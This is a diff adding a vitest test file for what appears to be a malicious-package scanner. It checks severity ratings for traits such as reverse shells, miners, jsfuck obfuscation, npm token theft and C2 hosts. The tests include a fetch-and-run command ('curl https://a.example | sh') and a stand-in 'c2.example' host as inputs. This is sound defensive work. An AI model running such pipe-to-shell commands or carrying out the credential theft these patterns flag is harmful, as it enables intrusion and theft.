@@ -1,0 +1,57 @@
+import { describe, expect, it } from 'vitest';
+import type { Capability, TraitKind } from '../../../src/content/record.ts';
+import { type CodeGiven, type FileGiven, rows, script, trait } from './given.ts';
+
+const lying = (file: FileGiven): CodeGiven => ({ files: { 'lib/a.js': file }, load: ['index.js'] });
+const loaded = (file: FileGiven): CodeGiven => ({ files: { 'index.js': file }, load: ['index.js'] });
+const started = (file: FileGiven): CodeGiven => ({ files: { 'a.js': file }, install: ['a.js'] });
+const able = (file: FileGiven, ...capabilities: readonly Capability[]) => ({ ...file, capabilities });
+const large = 32_001;
+
+describe('what is enough by itself', () => {
+  it.each<readonly [TraitKind, string, string[], string[], string[]]>([
+    ['takes-input', 'C17', ['C17 high'], ['C17 high'], ['C17 high']],
+    ['sends-keys', 'C18', ['C18 high'], ['C18 high'], ['C18 notice']],
+    ['runs-data', 'C19', ['C19 high'], ['C19 high'], ['C19 notice']],
+    ['alters-others', 'C20', ['C20 high'], ['C20 info'], ['C20 info']],
+  ])('%s: %s', (kind, _row, atInstall, atImport, elsewhere) => {
+    expect(rows(started(script(kind)))).toEqual(atInstall);
+    expect(rows(loaded(script(kind)))).toEqual(atImport);
+    expect(rows(lying(script(kind)))).toEqual(elsewhere);
+    expect(rows(loaded({ ...script(kind), size: large }))).toEqual([]);
+  });
+
+  it.each<TraitKind>(['reverse-shell', 'miner'])('C21: %s', (kind) => {
+    expect(rows(loaded(able(script(kind), 'child-process')))).toEqual(['C21 high']);
+    expect(rows(lying(able(script(kind), 'child-process')))).toEqual(['C21 notice']);
+    expect(rows(loaded(script(kind)))).toEqual([]);
+  });
+
+  it('C16 asks about brackets that an import runs', () => {
+    expect(rows(loaded(script('jsfuck')))).toEqual(['C16 high']);
+    expect(rows(lying(script('jsfuck')))).toEqual([]);
+  });
+});
+
+describe('what is fetched and run', () => {
+  it('C6 asks about a pipe into a shell that an import may run, but for well-known installers', () => {
+    const pipe = (excerpt: string) => able(script(trait('pipe-to-shell', { excerpt })), 'child-process');
+    expect(rows(loaded(pipe('curl https://a.example | sh')))).toContain('C6 high');
+    expect(rows(loaded(pipe('curl https://sh.rustup.rs | sh')))).toEqual(['C6 notice']);
+    expect(rows(lying(pipe('curl https://a.example | sh')))).toEqual(['C6 notice']);
+  });
+
+  it('C15 asks where a host of its own is named, and not of loaders', () => {
+    const runs = able(script('runs-text'), 'network', 'dynamic-code');
+    expect(rows(loaded({ ...runs, hosts: ['c2.example'] }))).toContain('C15 high');
+    expect(rows(loaded(runs))).toEqual(['C15 notice']);
+    expect(rows(loaded({ ...runs, hosts: ['github.com', 'www.w3.org'] }))).toEqual(['C15 notice']);
+  });
+
+  it("C8 asks about npm's token beside the machine's name", () => {
+    const takes = able(script('npm-credentials', 'host-facts'), 'network');
+    expect(rows(loaded({ ...takes, hosts: ['c2.example'] }))).toEqual(['C8 high']);
+    expect(rows(lying({ ...takes, hosts: ['c2.example'] }))).toEqual(['C8 notice']);
+    expect(rows(loaded(takes))).toEqual([]);
+  });
+});
